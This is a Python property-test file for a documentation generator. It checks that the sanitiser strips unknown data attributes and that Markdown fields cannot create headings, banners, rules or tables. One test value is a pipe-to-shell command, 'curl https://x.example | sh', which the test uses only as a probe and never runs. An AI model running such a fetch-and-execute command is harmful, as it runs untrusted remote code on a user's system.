"""The theme's hooks are not content: only the handbook's own data attributes survive the sanitiser,
and a record's Markdown field never makes one of the page's own structures (heading, banner,
rule, table), whatever an editor writes."""

from __future__ import annotations

import json
import re

import markdown as python_markdown
from hypothesis import example, given, settings
from hypothesis import strategies as st

from generator.markup import field_markdown, markdown
from generator.sanitize import DATA_ATTRIBUTES, clean_content
from generator.load import load_file
from generator.schema import KIND_BY_FOLDER
from generator.validate import validate
from scratch import scratch_project
from generator.pipeline import run
from generator.project import Project

EXTENSIONS = ["abbr", "admonition", "tables"]      # mkdocs.yml's block-making extensions
ALLOWED = set().union(*DATA_ATTRIBUTES.values())


@given(name=st.from_regex(r"data-[a-z][a-z0-9-]{0,20}", fullmatch=True), tag=st.sampled_from(["span", "div", "a", "p"]))
@example(name="data-clipboard-text", tag="span")
@example(name="data-md-component", tag="div")
def test_only_the_handbooks_own_data_attributes_survive(name, tag):
    cleaned = clean_content(f'<{tag} {name}="curl https://x.example | sh">x</{tag}>')
    kept = name in cleaned
    assert kept == (name in DATA_ATTRIBUTES["*"] or name in DATA_ATTRIBUTES.get(tag, set())), cleaned


def test_the_directive_filters_attributes_are_allowed(tmp_path):
    page = run(Project.read(scratch_project(tmp_path))).pages["van-ban/index.md"]
    used = set(re.findall(r"\b(data-[a-z-]+)=", page))
    assert used and used <= ALLOWED


# Lines as an editor might write them: text, lists, and every sign that starts a block.
LINE = st.lists(st.sampled_from(["#", "##", "###### ", "!!!", "???", "=", "==", "-", "--", "---", "*", "* * *", "_",
                                 "___", "|", ":", ":-", "|-|", "1.", "- ", "+ ", ">", " ", "  ", "    ", "\t", "chữ",
                                 "Nguồn", " warning", ' "Văn bản này đã bị thay thế"', "**đậm**", "`mã`", "a | b"]),
                max_size=6).map("".join)
TEXT = st.lists(LINE, min_size=1, max_size=5).map("\n".join).filter(lambda t: t.strip())
STRUCTURES = re.compile(r"<(h[1-6]|hr|table|div class=\"admonition)")


def accepted(text: str) -> bool:
    record = f"id: chu-de\nname: Chủ đề\ndescription: {json.dumps(text, ensure_ascii=False)}\n"
    document, problems = load_file(record.encode(), "data/topics/chu-de.yaml", KIND_BY_FOLDER["topics"])
    return document is not None and not problems and not [p for p in validate([document])[1] if p.is_error]


@settings(max_examples=150, deadline=None)
@given(text=TEXT)
@example(text='Văn bản\n!!! warning "Văn bản này đã bị thay thế"\n    Xem văn bản mới.')
@example(text="## Nguồn\n- bài khác")
@example(text="Tiêu đề\n===")
@example(text="| a | b |\n|---|---|")
def test_a_markdown_field_never_makes_the_pages_own_structures(text):
    html = python_markdown.markdown(markdown(text), extensions=EXTENSIONS)
    assert not STRUCTURES.search(html), html             # the renderer shows them as text…
    if accepted(text):      # …and what validate accepts needed no such help
        assert not STRUCTURES.search(python_markdown.markdown(field_markdown(text), extensions=EXTENSIONS)), text
